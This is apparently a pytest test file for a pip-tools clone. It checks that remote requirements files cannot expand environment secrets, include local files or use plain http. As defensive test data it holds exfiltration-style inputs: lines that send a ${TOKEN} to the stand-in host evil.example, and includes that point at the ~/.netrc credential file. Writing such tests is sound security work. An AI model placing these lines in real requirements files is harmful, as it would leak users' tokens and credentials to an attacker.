"""A requirements file that is read from another machine comes from outside: no variable is expanded in it, and it
names no file of this machine to be read, nor leaves https."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest

from piptools_clone.errors import InputError
from piptools_clone.formats.requirements.requirements_in import Wanted, parse_requirements
from tests.support.project import Project
from tests.support.simple_index import SimpleIndex

REMOTE = "https://evil.example/r.txt"
TOKEN = {"TOKEN": "s3cr3t-t0ken"}


def parse(lines: str, *, environ: Mapping[str, str] = TOKEN, asked: list[str] | None = None) -> Wanted:
    """Read a local file that includes the remote one, which says some lines."""
    files = {"r.in": f"-r {REMOTE}", REMOTE: lines}

    def read(path: str) -> bytes:
        if asked is not None:
            asked.append(path)
        return files.get(path, "leaked").encode()

    return parse_requirements("r.in", read, environ=environ, working_folder="/w")


@pytest.mark.parametrize(
    "line",
    [
        "x @ https://evil.example/${TOKEN}/x.whl",
        "-r https://evil.example/${TOKEN}.txt",
        "-c ${TOKEN}.txt",
        "--index-url https://evil.example/${TOKEN}/simple/",
        "--extra-index-url https://${TOKEN}@evil.example/simple/",
        "-f https://evil.example/${TOKEN}",
        "a==${TOKEN}",
        "a --config-settings=x=${TOKEN}",
    ],
)
@pytest.mark.parametrize("environ", [TOKEN, {}], ids=["set", "not set"])
def test_no_variable_is_expanded_in_a_file_of_another_machine(environ, line) -> None:
    """Set or not: in a lock, the machine that installs would fill it in."""
    asked: list[str] = []
    with pytest.raises(InputError, match=r"r.txt:1.*variable") as caught:
        parse(line, environ=environ, asked=asked)
    assert TOKEN["TOKEN"] not in str(caught.value) + str(asked)


def test_what_is_no_variable_stays() -> None:
    assert parse("a; sys_platform == '$x'  # ${TOKEN}\n# ${TOKEN}\nb").requirements[1].name == "b"


def test_the_address_of_a_remote_file_may_hold_a_variable() -> None:
    """It stands in a file of the user's own."""
    files = {"r.in": "-r https://${TOKEN}@own.example/r.txt", "https://s3cr3t-t0ken@own.example/r.txt": "a"}
    wanted = parse_requirements("r.in", lambda p: files[p].encode(), environ=TOKEN, working_folder="/w")
    assert wanted.requirements[0].name == "a"


@pytest.mark.parametrize("option", ["-r", "-c"])
@pytest.mark.parametrize("target", ["file:///home/me/.netrc", "FILE:/home/me/.netrc", "http://evil.example/x.txt"])
def test_a_file_of_another_machine_includes_no_file_of_this_one_and_nothing_by_plain_http(option, target) -> None:
    asked: list[str] = []
    with pytest.raises(InputError, match=r"r.txt:1"):
        parse(f"{option} {target}", asked=asked)
    assert asked == ["r.in", REMOTE]


def test_a_secret_of_the_environment_is_not_sent_by_a_compile(
    tmp_path: Path, index: SimpleIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    index.serve("/r.txt", f"x @ {index.root}/${{TOKEN}}/x-1.0-py3-none-any.whl\n".encode())
    run = Project(tmp_path, index, monkeypatch).want(f"-r {index.root}/r.txt").compile(env=TOKEN)
    assert run.code == 2
    assert index.paths == ["/r.txt"]
